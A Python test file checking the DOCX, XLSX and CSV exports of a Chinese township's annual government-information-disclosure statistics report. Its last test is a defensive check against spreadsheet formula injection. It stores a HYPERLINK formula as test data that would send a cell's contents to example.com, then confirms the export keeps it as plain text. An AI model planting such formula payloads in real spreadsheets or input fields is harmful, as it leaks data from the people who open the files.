"""The downloads read back: the numbers are in the DOCX, the XLSX and the CSV where a reader looks."""

import csv
import io
from datetime import date

import pytest
from docx import Document
from openpyxl import load_workbook

from cases import outcomes
from cases.models import Application
from cases.reports import build_report, exports
from cases.reports.spec import COLUMNS, ROW_LABELS
from tests.reports.conftest import at

pytestmark = pytest.mark.django_db


@pytest.fixture
def report(book, township):
    """2025: carried over 1 (natural person), new 3; concluded partial 1, withhold.state_secret 1; a fee."""
    a = book.register(date(2024, 12, 20))
    book.conclude(a, date(2025, 1, 10), "partial")
    b = book.register(date(2025, 3, 3), type="commercial_enterprise", channel="email")
    book.conclude(b, date(2025, 3, 10), "withhold.state_secret")
    book.register(date(2025, 12, 29), type="other_org", channel="letter")
    c = book.register(date(2025, 4, 1), type="legal_service_org", channel="fax")
    book.fee(c, date(2025, 4, 2), paid_on=date(2025, 4, 3), pages=45)
    book.remedy(b, "lawsuit_direct", date(2025, 5, 1), "corrected", date(2025, 9, 1))
    return build_report(township, 2025)


def xlsx_rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def find_row(rows, label):
    return next(r for r in rows if label in r)


def test_xlsx_national_table_has_every_row_with_its_numbers(report):
    wb = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    assert wb.sheetnames[:2] == ["三、申请情况", "四、复议诉讼"]
    rows = xlsx_rows(wb["三、申请情况"])
    header = find_row(rows, "商业企业")
    assert header[4:9] == ["商业企业", "科研机构", "社会公益组织", "法律服务机构", "其他"]
    assert find_row(rows, ROW_LABELS["new"])[3:] == [0, 1, 0, 0, 1, 1, 3]
    assert find_row(rows, ROW_LABELS["carried_over"])[3:] == [1, 0, 0, 0, 0, 0, 1]
    assert find_row(rows, "（二）部分公开")[3:] == [1, 0, 0, 0, 0, 0, 1]
    assert find_row(rows, "1.属于国家秘密")[3:] == [0, 1, 0, 0, 0, 0, 1]
    assert find_row(rows, "（七）总计")[3:] == [1, 1, 0, 0, 0, 0, 2]
    assert find_row(rows, ROW_LABELS["carried_forward"])[3:] == [0, 0, 0, 0, 1, 1, 2]
    # every outcome row is there, in the order of law.md §6, zeros included
    labels = [next(x for x in reversed(r[:3]) if x) for r in rows if isinstance(r[3], int)]
    assert labels == [ROW_LABELS["new"], ROW_LABELS["carried_over"], *(o.row for o in outcomes.OUTCOMES),
                      "（七）总计", ROW_LABELS["carried_forward"]]  # fmt: skip
    merged = {str(m) for m in wb["三、申请情况"].merged_cells.ranges}
    assert "A8:A29" in merged  # 三、本年度办理结果 spans the 21 outcome rows and （七）总计


def test_xlsx_remedies_and_other_tables(report):
    wb = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    rows = xlsx_rows(wb["四、复议诉讼"])
    assert rows[-1] == [0, 0, 0, 0, 0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0]
    other = xlsx_rows(wb["其他统计"])
    assert find_row(other, "本年新收")[1:7] == [
        0,
        1,
        1,
        1,
        0,
        3,
    ]  # 当面 信函 电子邮件 传真 网上 合计
    assert find_row(other, "收取")[1:3] == [1, 150.0]
    text = [r[0] for r in xlsx_rows(wb["文字稿"]) if r[0]]
    assert any(line.startswith("2025年度我乡共收到政府信息公开申请3件") for line in text)


def test_docx_has_the_sentences_and_the_tables(report):
    doc = Document(io.BytesIO(exports.to_docx(report)))
    paragraphs = [p.text for p in doc.paragraphs]
    assert paragraphs[0] == "姜驿乡人民政府2025年度政府信息公开工作年度报告（统计部分）"
    assert "三、2025年度依申请公开政府信息情况" in paragraphs
    assert report["text"]["section_3"].split("\n")[0] in paragraphs
    assert report["text"]["section_5"].split("\n")[1] in paragraphs
    assert "本年度收取信息处理费1件，金额150.00元；减免0件，金额0.00元。" in paragraphs
    national, remedies = doc.tables
    by_label = {}
    for row in national.rows:
        cells = [c.text for c in row.cells]
        by_label[cells[2]] = cells[3:]
    assert by_label[ROW_LABELS["new"]] == ["0", "1", "0", "0", "1", "1", "3"]
    assert by_label["（二）部分公开"] == ["1", "0", "0", "0", "0", "0", "1"]
    assert by_label["1.属于国家秘密"] == ["0", "1", "0", "0", "0", "0", "1"]
    assert by_label["（七）总计"] == ["1", "1", "0", "0", "0", "0", "2"]
    assert by_label[ROW_LABELS["carried_forward"]] == ["0", "0", "0", "0", "1", "1", "2"]
    assert len(national.rows) == 3 + len(outcomes.OUTCOMES) + 4
    assert [c.text for c in remedies.rows[-1].cells][5:10] == ["0", "1", "0", "0", "1"]
    # Chinese text is set in a Chinese font
    run = doc.paragraphs[0].runs[0]
    assert (
        run._element.rPr.rFonts.get(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia"
        )
        == "宋体"
    )


def test_csv_one_number_a_line(report):
    content = exports.to_csv(report).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    cells = {r["代码"]: r["数值"] for r in rows}
    assert cells["applications.rows.new.total"] == "3"
    assert cells["applications.rows.carried_over.natural_person"] == "1"
    assert cells["applications.rows.withhold.state_secret.commercial_enterprise"] == "1"
    assert cells["remedies.lawsuit_direct.corrected"] == "1"
    assert cells["fees.charged_amount"] == "150.00"
    assert cells["consultations.accepted.total"] == "0"
    assert sum(1 for r in rows if r["代码"].startswith("applications.rows.")) == len(
        report["applications"]["rows"]
    ) * len(COLUMNS)


def test_a_breach_is_in_the_files_too(book, township):
    app = book.conclude(book.register(date(2025, 3, 3)), date(2025, 3, 9))
    Application.objects.filter(pk=app.pk).update(outcome="")
    report = build_report(township, 2025)
    wb = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    assert wb.sheetnames[0] == "校验错误"
    assert wb["三、申请情况"]["J29"].fill.fgColor.rgb.endswith(
        "FFC7CE"
    )  # （七）总计 · 总计 flagged
    doc = Document(io.BytesIO(exports.to_docx(report)))
    assert any(p.text.startswith("校验错误（第2条）") for p in doc.paragraphs)
    assert "校验错误" in exports.to_csv(report).decode("utf-8-sig")


def test_xlsx_holds_text_as_text_never_a_formula(book, township):
    """An office's name is typed by an office administrator (POST /api/v1/agencies/ for an office
    under theirs); one beginning with "=" must not become a formula in the supervisor's Excel."""
    township.name = '=HYPERLINK("http://example.com/?"&A3,"点此核对")'
    township.short_name = "=1+1"
    township.save()
    book.register(date(2025, 3, 3))
    book.consult("hotline", at(2025, 3, 4), answered_at=at(2025, 3, 4, 11), topic="=2+2")
    report = build_report(township, 2025)
    wb = load_workbook(io.BytesIO(exports.to_xlsx(report)))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert exports.title(report) in texts
    assert exports.title(report).startswith("=HYPERLINK(")
